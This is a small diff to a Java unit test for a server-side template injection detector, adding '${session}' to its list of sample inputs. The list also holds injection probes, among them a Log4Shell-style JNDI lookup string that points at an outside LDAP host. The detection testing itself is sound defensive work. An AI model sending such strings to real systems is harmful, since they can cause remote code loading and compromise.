@@ -57,6 +57,7 @@ class SstiDetectorTest {
   @ValueSource(strings = {
     "#{name}",
     "${HOME}",
+    "${session}",
     "Hello ${user.firstName}",
     "${solution-user.name}@${vmdir.domain-name}",
     "${jndi:ldap://example.com/a}",
